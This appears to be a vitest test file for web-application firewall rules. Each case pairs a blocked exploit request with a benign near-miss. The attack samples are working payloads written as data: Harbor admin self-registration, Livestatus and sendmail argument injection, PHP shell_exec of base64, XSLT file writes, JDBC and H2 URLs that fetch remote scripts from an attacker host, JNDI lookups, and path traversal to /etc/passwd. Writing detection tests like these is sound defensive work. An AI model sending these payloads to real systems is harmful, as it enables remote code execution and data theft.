/**
 * Bundled rules of rev 2026-12-06c and 06d (issue 18, session 19): mechanisms held-out-12's misses with a visible payload
 * showed (and 9000807, held-out-3's H2-console JNDI login; 9001256 rev 2, which an arbitrary cookie no longer
 * dodges), written for the class of exploit rather than the
 * product. Each fires on its attack, sent the way such an exploit sends it, and stays quiet on the benign text
 * closest to it (an admin created in a signed-in session, a multi-line note in a form body, an address followed by a signature dash, a PHP snippet that
 * echoes a decoded string, a stylesheet writing a relative file, a JDBC URL with ordinary properties, a real
 * driver class).
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, form, FORM_HEADERS, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const upload = (name: string, type: string, content: string): RequestSpec => {
  const b = '----WebKitFormBoundaryq3Xr8K2nB7vLm0Tz';
  const body = `--${b}\r\nContent-Disposition: form-data; name="spl-file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${b}--\r\n`;
  return { method: 'POST', url: '/en-US/splunkd/__upload/indexing/preview?output_mode=json', headers: [...BROWSER, ['Content-Type', `multipart/form-data; boundary=${b}`]], body };
};
const xsl = (ns: string, write: string): string => `<?xml version="1.0" encoding="UTF-8"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" ${ns}>\n<xsl:template match="/">${write}</xsl:template>\n</xsl:stylesheet>`;
const EXSL = 'xmlns:exsl="http://exslt.org/common" extension-element-prefixes="exsl"';
const b64 = (text: string): string => Buffer.from(text).toString('base64');

const cookieJson = (cookie: string, body: string): RequestSpec => ({ method: 'POST', url: '/api/v2.0/users', headers: [...BROWSER, ['Content-Type', 'application/json'], ['Cookie', cookie]], body });
const ADMIN_SIGNUP = '{"username":"ops7","email":"ops7@example.test","realname":"ops7","password":"Passw0rd123","has_admin_role":true}';

const CASES: RuleCase[] = [
  [9001256, 'block', 'rev 2: a self-registration with has_admin_role and only analytics and language cookies', cookieJson('_ga=GA1.2.1234.5678; harbor-lang=en-us', ADMIN_SIGNUP), cookieJson('_ga=GA1.2.1234.5678; sid=8b1f0c2e9a7d4e3f', ADMIN_SIGNUP)],
  [9001256, 'block', 'rev 2: roles ["administrator"] with a bare cookie a client made up', cookieJson('a=b', '{"username":"kq2","email":"kq2@example.test","password":"Gx81!aa","roles":["administrator"]}'), cookieJson('lang=en; wordpress_logged_in_5c1f=admin%7C1767225600%7Cabc', '{"username":"kq2","email":"kq2@example.test","password":"Gx81!aa","roles":["administrator"]}')],
  [9001358, 'block', 'a Livestatus COMMAND after two line breaks in a host parameter', q('host=web01%0A%0ACOMMAND%20[1740531135%5D%20DEL_ALL_HOST_COMMENTS%3Blocalhost%0A&service=Memory'), form('comment=web01%0A%0ACOMMAND+%5B1740531135%5D+was+the+old+syntax&host=web01')],
  [9001358, 'block', 'AuthUser and a GET of a table after a line break', q('host=x%0AAuthUser:%20%0A%0AGET%20contactgroups%0AColumns%3A%20name%20members%0A'), q('q=GET+hosts+Columns:+name&host=web01')],
  [9001358, 'block', 'Columns and Filter lines after a host name', q('host=abc%0AColumns:%20name%20address%0AFilter:%20name%20~%20.*%0A'), q('filter=name%3A+web&columns=name%2Caddress')],
  [9000339, 'block', 'an identity address with tab-separated -oQ and -X path', form('new_full_name=ann&new_email_address=ann%40example.test%09-oQ%2Ftmp%2F%09-X%2Fvar%2Fwww%2Fhtml%2Fx.php&new_reply_to='), form('new_full_name=ann&new_email_address=ann%40example.test&signature=--+%0AAnn+-+Office')],
  [9000339, 'block', 'an address then -OQueueDirectory= with plus-spaces', form('from=bo%40example.test+-OQueueDirectory%3D%2Ftmp+-X%2Fvar%2Fwww%2Fs.php'), form('from=bo%40example.test+-+Customer+care&to=ops%40example.test')],
  [9000339, 'block', 'an address then -be and -C with a config path', form('email=x%40example.test+-be++-C%2Ftmp%2Fa.cf'), form('email=x%40example.test&note=-Cheers')],
  [9001356, 'block', 'shell_exec of base64_decode in a CSV import quote', q('import_format=csv&quote=%22))%3Bshell_exec(base64_decode(%22bnNsb29rdXAgYS5leGFtcGxlLm5ldA%3D%3D%22))%3B%2F%2F'), q('q=echo+base64_decode(%22aGVsbG8%3D%22)+explained')],
  [9001356, 'block', 'passthru of base64_decode inside a template conditional', form(`template=%3Cif+%24mybb-%3Euser%5B'uid'%5D+%3D%3D+passthru(base64_decode('${encodeURIComponent(b64('cat /etc/passwd'))}'))+then%3Ex%3C%2Fif%3E`), form("template=%3Cif+%24mybb-%3Euser%5B'uid'%5D+%3D%3D+1+then%3Ewelcome%3C%2Fif%3E&note=system(%24cmd)")],
  [9000707, 'block', 'an uploaded XSL writing a shell script through exsl:document', upload('x.xsl', 'application/xslt+xml', xsl(EXSL, '<exsl:document href="/opt/splunk/bin/scripts/a.sh" method="text"><xsl:text>id</xsl:text></exsl:document>')), upload('report.xsl', 'application/xslt+xml', xsl(EXSL, '<exsl:document href="chapter1.html" method="html"><xsl:apply-templates/></exsl:document>'))],
  [9000707, 'block', 'a Xalan redirect:write to a Windows path in an XML body', { method: 'POST', url: '/api/transform', headers: [...BROWSER, ['Content-Type', 'application/xml']], body: xsl('xmlns:redirect="http://xml.apache.org/xalan/redirect" extension-element-prefixes="redirect"', '<redirect:write file="C:\\inetpub\\wwwroot\\a.aspx">x</redirect:write>') }, { method: 'POST', url: '/api/transform', headers: [...BROWSER, ['Content-Type', 'application/xml']], body: xsl('', '<xsl:result-document href="/out/page.html"><p/></xsl:result-document>') }],
  [9001027, 'block', 'autoDeserialize with a ServerStatusDiffInterceptor in a base64 data-source configuration', json(`{"type":"mysql","configuration":"${b64(JSON.stringify({ host: 'db.attacker.example', port: 3306, extraParams: 'autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor' }))}"}`), json(`{"type":"mysql","configuration":"${b64(JSON.stringify({ host: 'db.internal.example', port: 3306, extraParams: 'useSSL=true&serverTimezone=UTC&characterEncoding=utf8' }))}"}`)],
  [9001027, 'block', 'a JDBC URL with allowUrlInLocalInfile in a form', form('url=jdbc%3Amysql%3A%2F%2F203.0.113.9%3A3306%2Fx%3FallowLoadLocalInfile%3Dtrue%26allowUrlInLocalInfile%3Dtrue&user=root'), form('url=jdbc%3Amysql%3A%2F%2Fdb.example.test%3A3306%2Fshop%3FuseUnicode%3Dtrue%26autoReconnect%3Dtrue&user=app')],
  [9001028, 'block', 'a PostgreSQL socketFactory naming a Spring XML context', q('jdbcUrl=jdbc:postgresql://x/y?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext%26socketFactoryArg=http://203.0.113.9/b.xml'), q('jdbcUrl=jdbc:postgresql://db.example.test/y?sslmode=require%26ApplicationName=reports')],
  [9001027, 'block', 'an H2 URL with INIT=RUNSCRIPT in a JSON data source', json('{"url":"jdbc:h2:mem:a;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM \'http://203.0.113.9/x.sql\'"}'), json('{"url":"jdbc:h2:mem:a;DB_CLOSE_DELAY=-1;MODE=MySQL"}')],
  [9000807, 'block', "the H2 console's login form with javax.naming.InitialContext and an rmi URL", { method: 'POST', url: '/h2-console/login.do?jsessionid=4f1c2e9a', headers: FORM_HEADERS, body: 'language=en&setting=Generic+H2+%28Embedded%29&name=Generic+H2+%28Embedded%29&driver=javax.naming.InitialContext&url=rmi%3A%2F%2F203.0.113.9%3A1389%2FExploit&user=&password=' }, { method: 'POST', url: '/h2-console/login.do?jsessionid=4f1c2e9a', headers: FORM_HEADERS, body: 'language=en&setting=Generic+H2+%28Embedded%29&name=Generic+H2+%28Embedded%29&driver=org.h2.Driver&url=jdbc%3Ah2%3A~%2Ftest&user=sa&password=' }],
  [9000807, 'block', 'a JSON data source with driverClassName javax.naming.InitialContext', json('{"driverClassName":"javax.naming.InitialContext","url":"ldap://203.0.113.9:1389/a"}'), json('{"driverClassName":"com.mysql.cj.jdbc.Driver","url":"jdbc:mysql://db/x","note":"javax.naming.InitialContext is for JNDI"}')],
  [9000416, 'block', 'a JSON url in a form value climbing two levels above a one-segment path', form('json=%7B%22url%22%3A%22%2Fgeneral%2F..%2F..%2Fattach%2Fim%2F2376%2F5fjfb3Yo.jpg%22%7D'), form('json=%7B%22url%22%3A%22%2Fgeneral%2Freports%2F..%2Fattach%2Fim%2F2376%2Fa.jpg%22%7D')],
  [9000416, 'block', 'a file parameter climbing three levels above a two-segment path', q('file=/var/www/../../../etc/passwd'), q('file=../../assets/logo.png&back=/docs/guide/../index.html')],
  [9000417, 'block', 'an encoded dot segment in a resources path', { url: '/gitblit/resources/.%2e/.%2e/data/users.conf' }, { url: '/search?q=.%2e%2f&p=1' }],
  [9000417, 'block', 'a fully encoded double dot in the path', { url: '/static/%2e%2e/%2e%2e/etc/hosts' }, { url: '/files/v1.2.%2e-notes.txt' }],
];

describe("bundled rules for held-out-12's exploit mechanisms (rev 2026-12-06c, 2026-12-06d)", () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
